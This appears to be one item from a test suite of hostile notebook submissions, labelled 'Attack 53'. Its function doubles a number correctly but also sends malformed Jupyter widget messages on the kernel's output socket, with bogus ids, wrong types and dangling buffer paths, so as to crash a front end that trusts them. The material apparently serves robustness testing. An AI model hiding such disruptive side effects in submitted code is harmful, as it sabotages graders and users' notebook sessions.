# Attack 53: Widgets that nobody has: messages about them end a front end that believes them.
# points: double 2, half 1
# reads: ^\| double: correct

# %% double-answer
def double(x):
    kernel = get_ipython().kernel
    output = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": []}
    for kind, content in (
        ("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": {}}),
        ("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": {"state": {}}}),
        ("comm_open", {"comm_id": "é", "target_name": "jupyter.widget", "data": {"state": output}}),
        ("comm_open", {"comm_id": "b", "target_name": "jupyter.widget", "data": {"state": output}}),
        ("comm_msg", {"comm_id": "b", "data": {"state": {"msg_id": ""}}}),
        ("comm_msg", {"comm_id": "b", "data": {"state": {"msg_id": ["x"]}}}),
        ("comm_msg", {"comm_id": "c", "data": {"state": {}, "buffer_paths": [1, 2]}}),
        ("comm_open", {"comm_id": "d", "target_name": [], "data": {}}),
        (
            "comm_open",
            {"comm_id": "e", "target_name": "jupyter.widget", "data": {"state": {"_model_module": []}}},
        ),
    ):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))
    return 2 * x
